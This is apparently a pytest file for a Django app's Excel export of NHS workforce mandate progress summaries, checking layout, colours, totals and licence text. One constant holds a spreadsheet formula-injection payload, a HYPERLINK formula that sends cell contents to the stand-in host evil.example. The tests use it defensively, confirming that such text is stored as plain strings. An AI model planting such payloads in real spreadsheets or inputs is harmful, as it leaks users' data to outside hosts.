"""The summary as an Excel workbook: opened with openpyxl, as a reader's program would."""

from __future__ import annotations

import datetime
import re
from io import BytesIO

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from mandates.models import OGL_ATTRIBUTION, Mandate
from objectives.models import Objective, ProgressUpdate
from objectives.services import progress_update_record
from summaries.renderers.spreadsheet import CUT_MARK, sheet_title, summary_xlsx
from summaries.summary import build_summary

pytestmark = pytest.mark.usefixtures("mandates")
D = datetime.date
HEADER_ROW = 8
FIRST_ROW = HEADER_ROW + 1
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
THEME_2_URL = "/mandates/hee-2021-22/themes/2/summary.xlsx"


def record(objective: Objective, author: User, narrative: str, **fields: object) -> ProgressUpdate:
    values: dict = {"as_of": D(2021, 6, 30), "status": "at_risk", "percent_complete": 40}
    return progress_update_record(
        objective=objective, author=author, narrative=narrative, **(values | fields)
    )


def objective(reference: str) -> Objective:
    return Objective.objects.get(mandate__slug="hee-2021-22", reference=reference)


def workbook_of(content: bytes) -> Workbook:
    return load_workbook(BytesIO(content))


def theme_2_workbook() -> Workbook:
    mandate = Mandate.objects.get(slug="hee-2021-22")
    summary = build_summary(
        mandate=mandate,
        theme=mandate.themes.get(number=2),
        as_at=D(2021, 6, 30),
        recorded_by=timezone.now(),
        produced_by="Eddie-Editor",
        produced_at=timezone.now(),
    )
    return workbook_of(summary_xlsx(summary))


def row_values(ws: Worksheet, row: int) -> list:
    return [cell.value for cell in ws[row]]


def workbook_texts(book: Workbook) -> list[str]:
    """Every text a reader could find in the workbook: its cells, headers and footers."""
    cells = [
        cell.value
        for ws in book.worksheets
        for row in ws.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    margins = [
        part.text
        for ws in book.worksheets
        for header in (ws.oddHeader, ws.oddFooter)
        for part in (header.left, header.center, header.right)
        if part.text
    ]
    return cells + margins


def test_a_theme_workbook_says_what_it_is_and_holds_the_recorded_values(
    client: Client, viewer: User, updater: User, nurses: Objective
) -> None:
    record(
        nurses,
        updater,
        EVIL,
        status="on_track",
        percent_complete=20,
        evidence_url="https://www.hee.nhs.uk/our-work/nursing",
    )
    client.force_login(viewer)
    response = client.get(THEME_2_URL, {"as_at": "2021-07-14"})

    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        'attachment; filename="hee-2021-22-theme-2-summary-2021-07-14.xlsx"'
    )
    book = workbook_of(response.content)
    assert book.sheetnames == ["Theme 2"]
    ws = book["Theme 2"]
    assert ws["A1"].value == (
        "Health Education England mandate: 2021 to 2022, "
        "theme 2: Government healthcare workforce priorities"
    )
    assert ws["A2"].value == "Mandate period: 1 April 2021 to 31 March 2022"
    assert ws["A3"].value == "Figures as at 14 July 2021"
    today = timezone.localdate()
    # DATETIME_FORMAT: "14 July 2021, 10:15", in London's time, as the HTML summary says it.
    assert re.fullmatch(
        rf"Updates recorded up to {today.day} {today:%B %Y}, \d\d:\d\d", ws["A4"].value
    )
    assert re.match(rf"Produced {today.day} {today:%B %Y}, \d\d:\d\d by ", ws["A5"].value)
    assert ws["A5"].value.endswith(" by Vera-Viewer")
    assert ws["A6"].value == OGL_ATTRIBUTION
    # The quarter reported, April to June 2021, ended on 30 June; nobody has signed it off.
    assert ws["A7"].value == "Return for April 2021 to June 2021: Not signed off"
    assert row_values(ws, HEADER_ROW) == [
        "Reference",
        "Marks",
        "Objective",
        "Owner",
        "Status",
        "Was (30 June 2021)",
        "% complete",
        "As of",
        "Overdue",
        "Narrative",
        "Evidence link",
        "Targets",
    ]
    assert ws.freeze_panes == "A9"
    assert ws.column_dimensions["J"].width == 60
    assert ws["J9"].alignment.wrap_text

    reference, marks, title, _, status, _was, percent, as_of, overdue, narrative, link, targets = (
        row_values(ws, FIRST_ROW)
    )
    assert (reference, marks, title) == ("3", "S G", "Help deliver 50,000 more nurses in the NHS")
    assert (status, percent, overdue) == ("On track", 0.2, "No")
    assert ws["G9"].data_type == "n" and ws["G9"].number_format == "0%"
    assert as_of == datetime.datetime(2021, 6, 30)
    assert ws["H9"].is_date and ws["H9"].number_format == "d mmm yyyy"
    assert narrative == EVIL and ws["J9"].data_type == "s"
    assert link == "https://www.hee.nhs.uk/our-work/nursing"
    assert ws["K9"].hyperlink.target == link
    assert "50,000 more nurses by 2024 (HEE's own date): no figure recorded" in targets
    # Objectives with no update say so, in words, and are overdue once April-June is due.
    assert row_values(ws, FIRST_ROW + 1)[4:9] == [
        "No update yet",
        "No update yet",
        None,
        None,
        "Yes",
    ]


def test_status_cells_are_coloured_as_the_status_bar_and_named_in_words(
    updater: User, nurses: Objective
) -> None:
    record(nurses, updater, "Slipping.", status="off_track", percent_complete=10)
    record(objective("4"), updater, "Fine.", status="on_track", percent_complete=50)

    ws = theme_2_workbook()["Theme 2"]
    off_track, on_track, no_update = (ws.cell(row=r, column=5) for r in range(9, 12))
    assert off_track.value == "Off track"
    assert off_track.fill.fgColor.rgb == "00D5281B"
    assert off_track.font.color.rgb == "00FFFFFF"
    assert on_track.value == "On track" and on_track.fill.fgColor.rgb == "00007F3B"
    assert no_update.value == "No update yet"
    assert no_update.fill.fgColor.rgb == "00D8DDE0"
    assert no_update.font.color.rgb == "00000000"  # dark text on the light grey


def test_the_theme_totals_follow_the_rows(updater: User, nurses: Objective) -> None:
    record(nurses, updater, "Q1.", status="on_track", percent_complete=20)

    ws = theme_2_workbook()["Theme 2"]
    totals = {
        ws.cell(row=r, column=3).value: ws.cell(row=r, column=4).value
        for r in range(FIRST_ROW + 4, FIRST_ROW + 4 + 9)
    }
    assert totals == {
        "Theme 2 totals by status": None,
        "Complete": 0,
        "On track": 1,
        "At risk": 0,
        "Off track": 0,
        "Not started": 0,
        "No update yet": 2,
        "Total objectives": 3,
        # As at 30 June 2021 no quarter of the mandate has fallen due (the first is due on
        # 14 July), so none is overdue: the rows' Overdue column says No for each.
        "Overdue for an update": 0,
    }


def test_text_that_looks_like_a_formula_is_stored_as_text_in_every_cell(
    updater: User, editor: User, nurses: Objective
) -> None:
    texts = {"3": EVIL, "4": "+1+1", "5": "@SUM(A1:A9)"}
    for reference, text in texts.items():
        record(objective(reference), updater, text)
    nurses.owner = User.objects.create_user("-owner", first_name="=1+2")
    nurses.title = "-2 objectives"
    nurses.save()

    ws = theme_2_workbook()["Theme 2"]
    assert [ws.cell(row=r, column=10).value for r in range(9, 12)] == list(texts.values())
    assert ws["D9"].value == "=1+2" and ws["C9"].value == "-2 objectives"
    strings = [cell for row in ws.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert strings and all(cell.data_type == "s" for cell in strings)


def test_characters_a_workbook_cannot_hold_are_dropped_and_overlong_text_is_cut(
    updater: User, nurses: Objective
) -> None:
    # \x00 cannot reach the database (the forms refuse it; PostgreSQL cannot store it).
    record(nurses, updater, "Line one\x0bstill line one\x01.")
    # Past the narrative's limit (core.limits): written directly, as a text stored before
    # the limit was, to show the workbook still cuts what a cell cannot hold.
    overlong = record(objective("4"), updater, "x")
    ProgressUpdate.objects.filter(pk=overlong.pk).update(narrative="x" * 40_000)
    overlong.history.update(narrative="x" * 40_000)  # the summary reads the version

    ws = theme_2_workbook()["Theme 2"]
    assert ws["J9"].value == "Line onestill line one."
    assert len(ws["J10"].value) == 32_767 and ws["J10"].value.endswith(CUT_MARK)


def test_a_whole_mandate_workbook_has_an_overview_then_a_sheet_per_theme(
    client: Client, viewer: User, updater: User, nurses: Objective
) -> None:
    record(nurses, updater, "Q1.", status="on_track", percent_complete=20)
    record(objective("1"), updater, "Q1.", status="complete", percent_complete=100)
    record(objective("2"), updater, "Q1.", as_of=D(2021, 4, 1))  # the mandate's first day
    client.force_login(viewer)
    response = client.get("/mandates/hee-2021-22/summary.xlsx", {"as_at": "2021-06-30"})

    assert response["Content-Disposition"] == (
        'attachment; filename="hee-2021-22-summary-2021-06-30.xlsx"'
    )
    book = workbook_of(response.content)
    assert book.sheetnames == ["Overview", *(f"Theme {n}" for n in range(1, 7))]
    overview = book["Overview"]
    assert overview["A1"].value == "Health Education England mandate: 2021 to 2022: summary"
    assert overview["A3"].value == "Figures as at 30 June 2021"
    assert overview.freeze_panes == "A9"
    assert row_values(overview, HEADER_ROW) == [
        "Theme",
        "Title",
        "Objectives",
        "Complete",
        "On track",
        "At risk",
        "Off track",
        "Not started",
        "No update yet",
        "Overdue for an update",
        "Return for April 2021 to June 2021",
    ]
    # As at 30 June 2021 no quarter has fallen due yet: none is overdue.
    row_9 = [1, "COVID-19 response and recovery", 2, 1, 0, 1, 0, 0, 0, 0, "Not signed off"]
    assert row_values(overview, 9) == row_9
    assert row_values(overview, 10) == [
        2,
        "Government healthcare workforce priorities",
        3,
        0,
        1,
        0,
        0,
        0,
        2,
        0,
        "Not signed off",
    ]
    assert row_values(overview, 15) == ["Total", "All themes", 14, 1, 1, 1, 0, 0, 11, 0, None]
    theme_2 = book["Theme 2"]
    assert theme_2["A1"].value.endswith("theme 2: Government healthcare workforce priorities")
    assert [theme_2.cell(row=r, column=1).value for r in range(9, 12)] == ["3", "4", "5"]
    # The licence once in the workbook, on its first sheet; the others say where it is.
    assert overview["A6"].value == OGL_ATTRIBUTION
    assert {book[name]["A6"].value for name in book.sheetnames[1:]} == {
        "Licence: see the Overview sheet"
    }
    assert "\n".join(workbook_texts(book)).count(OGL_ATTRIBUTION) == 1


def test_a_theme_workbook_has_its_licence_once_and_says_what_its_moment_is(
    updater: User, nurses: Objective
) -> None:
    record(nurses, updater, "Q1.")
    mandate = Mandate.objects.get(slug="hee-2021-22")
    moment = datetime.datetime(2021, 7, 14, 9, 30, tzinfo=datetime.UTC)  # 10:30 in London
    summary = build_summary(
        mandate=mandate,
        theme=mandate.themes.get(number=2),
        as_at=D(2021, 6, 30),
        recorded_by=moment,
        produced_by="Eddie-Editor",
        produced_at=timezone.now(),
    )

    book = workbook_of(summary_xlsx(summary))
    texts = workbook_texts(book)
    assert "\n".join(texts).count(OGL_ATTRIBUTION) == 1
    assert book["Theme 2"]["A6"].value == OGL_ATTRIBUTION
    # The moment up to which updates count, worded so that it cannot read as a person.
    assert book["Theme 2"]["A4"].value == "Updates recorded up to 14 July 2021, 10:30"
    assert not [text for text in texts if text.startswith("Recorded by")]


def test_sheet_titles_are_ones_excel_accepts() -> None:
    assert sheet_title("Theme 2") == "Theme 2"
    title = sheet_title("Theme [2]: a/b\\c*d?e " + "x" * 40)
    assert len(title) == 31 and not set("[]:*?/\\") & set(title)


def test_rows_are_as_tall_as_their_wrapped_text(updater: User, nurses: Objective) -> None:
    # 100 words of 5 characters and a space: 600 characters, 10 or more lines in a column 60
    # characters wide (the narrative's), however the words fall.
    record(nurses, updater, " ".join(["words"] * 100))
    record(objective("4"), updater, "Short.")

    ws = theme_2_workbook()["Theme 2"]
    assert ws.column_dimensions["J"].width == 60
    assert ws.row_dimensions[FIRST_ROW].height >= 10 * 15
    # Row 4's tallest cell is its title, wrapped in the Objective column: a line or two.
    assert ws.row_dimensions[FIRST_ROW + 1].height <= 3 * 15 + 3
    assert ws.row_dimensions[FIRST_ROW].height > ws.row_dimensions[FIRST_ROW + 1].height
    # The headings wrap too: "Evidence link" needs no more than two lines.
    assert 15 <= ws.row_dimensions[HEADER_ROW].height <= 2 * 15 + 3


def test_every_printed_page_says_what_it_is_when_it_stands_and_its_number(
    updater: User, nurses: Objective
) -> None:
    ws = theme_2_workbook()["Theme 2"]
    assert ws.oddHeader.left.text == (
        "Health Education England mandate: 2021 to 2022, "
        "theme 2: Government healthcare workforce priorities"
    )
    assert ws.oddHeader.right.text == "Figures as at 30 June 2021"
    assert ws.oddFooter.right.text == "Page &P of &N"
    assert "Demonstration" not in ws["A1"].value


def test_the_marks_are_explained_below_the_table_and_demonstration_data_says_so(
    updater: User, nurses: Objective
) -> None:
    update = record(nurses, updater, "Made up.")
    update.demonstration = True
    update.save()

    ws = theme_2_workbook()["Theme 2"]
    assert ws["A1"].value.startswith("Demonstration data, not a report: ")
    assert ws.oddHeader.left.text.startswith("Demonstration data, not a report: ")
    legend_row = next(
        r for r in range(FIRST_ROW, ws.max_row + 1) if ws.cell(r, 2).value == "Provenance marks"
    )
    legend = {
        ws.cell(r, 2).value: ws.cell(r, 3).value for r in range(legend_row + 1, ws.max_row + 1)
    }
    assert legend["S"] == "Wording: our reading of a summary of the mandate, not its own words"
    assert legend["G"] == "Grouping: which theme it sits under is our inference"
    assert ws.row_dimensions[legend_row + 1].height >= 15
